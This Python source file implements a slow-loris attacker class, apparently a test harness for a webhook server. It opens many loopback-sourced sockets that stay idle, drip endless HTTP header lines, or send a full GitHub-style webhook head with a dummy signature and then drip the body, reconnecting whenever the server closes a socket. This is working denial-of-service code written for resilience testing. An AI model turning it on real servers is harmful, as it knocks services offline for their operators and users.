"""A slow-loris attacker on real sockets: N connections that send nothing or drip a request
head that never ends (or, ``body``: send a complete head and drip the body), each reopened as
soon as the server closes it (bounded by ``stop()`` and ``max_s``). Source addresses from
127.0.0.0/8, so one client or many can be played."""

from __future__ import annotations

import contextlib
import selectors
import socket
import threading
import time


class SlowLoris:
    def __init__(self, host: str, port: int, n: int, sources: list[str],
                 drip_s: float = 0.5, reconnect_s: float = 0.05, max_s: float = 300.0,
                 body: bool = False) -> None:
        self.host, self.port, self.n, self.sources = host, port, n, sources
        self.body = body   # every socket: a complete signed head, then a dripped body
        self.drip_s, self.reconnect_s, self.max_s = drip_s, reconnect_s, max_s
        self.sel = selectors.DefaultSelector()
        self.socks: dict[int, socket.socket] = {}
        self.reconnects = 0
        self.opened = 0
        self.open_failures = 0
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True, name="slowloris")

    def _open(self, i: int) -> None:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((self.sources[i % len(self.sources)], 0))
            s.settimeout(2.0)
            s.connect((self.host, self.port))
            if self.body:
                s.sendall(b"POST /webhook HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n"
                          b"Content-Type: application/json\r\nX-GitHub-Event: ping\r\n"
                          b"X-GitHub-Delivery: loris\r\nX-Hub-Signature-256: sha256=" +
                          b"0" * 64 + b"\r\n\r\n{")
            elif i % 2:   # odd: a head that never ends; even: idle, says nothing
                s.sendall(b"POST /webhook HTTP/1.1\r\nHost: x\r\n")
            s.setblocking(False)
        except OSError:
            s.close()
            self.open_failures += 1
            return
        self.socks[i] = s
        self.opened += 1
        self.sel.register(s, selectors.EVENT_READ, i)

    def _close(self, i: int) -> None:
        s = self.socks.pop(i, None)
        if s is not None:
            self.sel.unregister(s)
            s.close()

    def _run(self) -> None:
        deadline = time.monotonic() + self.max_s
        for i in range(self.n):
            self._open(i)
        last_drip = time.monotonic()
        while not self.stopping.is_set() and time.monotonic() < deadline:
            for key, _ in self.sel.select(timeout=self.drip_s):
                i = key.data
                data = b""
                with contextlib.suppress(OSError):
                    data = self.socks[i].recv(4096)
                if not data:           # closed (or refused with a 503): come back
                    self._close(i)
                    self.reconnects += 1
            for i in range(self.n):
                if i not in self.socks and not self.stopping.is_set():
                    time.sleep(self.reconnect_s)
                    self._open(i)
            if time.monotonic() - last_drip >= self.drip_s:
                last_drip = time.monotonic()
                for i, s in list(self.socks.items()):
                    if self.body:
                        with contextlib.suppress(OSError):
                            s.send(b" ")
                    elif i % 2:
                        with contextlib.suppress(OSError):
                            s.send(b"X-a: b\r\n")
        for i in list(self.socks):
            self._close(i)

    def __enter__(self) -> SlowLoris:
        self.thread.start()
        deadline = time.monotonic() + 60.0
        while self.opened < self.n and time.monotonic() < deadline:   # each opened once
            time.sleep(0.05)
        return self

    def __exit__(self, *exc: object) -> None:
        self.stopping.set()
        self.thread.join(timeout=30)
